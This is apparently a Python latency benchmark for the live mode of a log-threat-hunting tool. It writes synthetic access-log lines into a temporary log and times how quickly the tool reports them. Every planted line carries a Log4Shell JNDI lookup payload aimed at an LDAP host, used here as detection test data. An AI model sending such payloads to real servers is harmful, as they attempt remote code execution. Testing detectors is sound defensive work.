#!/usr/bin/env python3
"""Latency of spoor's live mode: from a log line being written to its finding appearing in the
JSONL output of `spoor hunt --follow`.

Writes N planted Log4Shell requests (combined access log format) one at a time, with a small
pause between lines, to a log that a release `spoor hunt --follow -o out.jsonl` follows, and
watches out.jsonl from another thread; each finding's latency is the time it was seen minus the
time its line was written. Prints the median, 99th percentile and maximum.

    cargo build --release --bin spoor
    python3 scripts/live/latency.py --spoor target/release/spoor --lines 10000 --poll 250ms

Not part of CI: it measures time, which tests must not depend on.
"""

import argparse
import os
import re
import statistics
import subprocess
import tempfile
import threading
import time

LOG4SHELL = "71f5fd2e-6372-4536-bbf0-092fe218d62a"
PLANTED = re.compile(r"/p(\d+)\?")


def line(n):
    s = n % 86400
    return (
        f'203.0.113.9 - - [08/Jul/2024:{s // 3600:02d}:{s // 60 % 60:02d}:{s % 60:02d} +0000] '
        f'"GET /p{n}?x=${{jndi:ldap://203.0.113.80/a}} HTTP/1.1" 200 5 "-" "curl"\n'
    )


def watch(out_path, seen, total, stop):
    """Tails the output, noting when each planted number first appears."""
    while not os.path.exists(out_path) and not stop.is_set():
        time.sleep(0.001)
    with open(out_path, "r", encoding="utf-8", errors="replace") as f:
        buf = ""
        while len(seen) < total and not stop.is_set():
            chunk = f.read()
            if not chunk:
                time.sleep(0.0005)
                continue
            now = time.monotonic()
            buf += chunk
            *lines, buf = buf.split("\n")
            for l in lines:
                m = PLANTED.search(l)
                if m and '"rule"' in l:
                    seen.setdefault(int(m.group(1)), now)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--spoor", default="target/release/spoor")
    ap.add_argument("--lines", type=int, default=10000)
    ap.add_argument("--poll", default="250ms")
    ap.add_argument("--gap-ms", type=float, default=2.0, help="pause between written lines")
    a = ap.parse_args()
    with tempfile.TemporaryDirectory() as d:
        log = os.path.join(d, "access.log")
        out = os.path.join(d, "out.jsonl")
        open(log, "w").close()
        proc = subprocess.Popen(
            [a.spoor, "hunt", "--follow", "--poll", a.poll, "--heartbeat", "0",
             "--rule-id", LOG4SHELL, "-o", out, log],
            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
        )
        seen, stop = {}, threading.Event()
        t = threading.Thread(target=watch, args=(out, seen, a.lines, stop), daemon=True)
        t.start()
        time.sleep(1.0)  # rules loaded, first poll done
        written = {}
        with open(log, "a", buffering=1) as f:
            for n in range(a.lines):
                f.write(line(n))
                f.flush()
                written[n] = time.monotonic()
                time.sleep(a.gap_ms / 1000.0)
        deadline = time.monotonic() + 60
        while len(seen) < a.lines and time.monotonic() < deadline:
            time.sleep(0.01)
        stop.set()
        proc.send_signal(2)
        proc.wait(timeout=30)
        lat = sorted((seen[n] - written[n]) * 1000.0 for n in written if n in seen)
        if len(lat) < a.lines:
            print(f"only {len(lat)} of {a.lines} findings seen")
        p99 = lat[min(len(lat) - 1, int(round(0.99 * len(lat))) - 1)]
        print(f"lines {a.lines}, poll {a.poll}, gap {a.gap_ms} ms: "
              f"median {statistics.median(lat):.1f} ms, p99 {p99:.1f} ms, max {lat[-1]:.1f} ms")


if __name__ == "__main__":
    main()
